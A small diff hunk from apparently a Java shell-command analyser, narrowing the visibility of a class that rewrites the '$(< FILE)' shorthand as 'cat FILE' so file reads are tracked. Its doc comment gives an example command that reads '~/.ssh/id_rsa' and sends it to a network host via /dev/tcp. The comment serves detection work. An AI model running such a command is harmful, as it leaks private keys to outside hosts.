@@ -9,7 +9,7 @@ import java.util.List;
  * reads one file on standard input. Spelled out as {@code cat}, the file it reads (a key, a password file) is tracked
  * like any other read, so {@code echo "$(<~/.ssh/id_rsa)" > /dev/tcp/h/80} is the secret sent to the network.
  */
-public final class FileShorthand {
+final class FileShorthand {
     private FileShorthand() {}
 
     /** The substitution's script, with a lone {@code < FILE} spelled as {@code cat FILE}. */
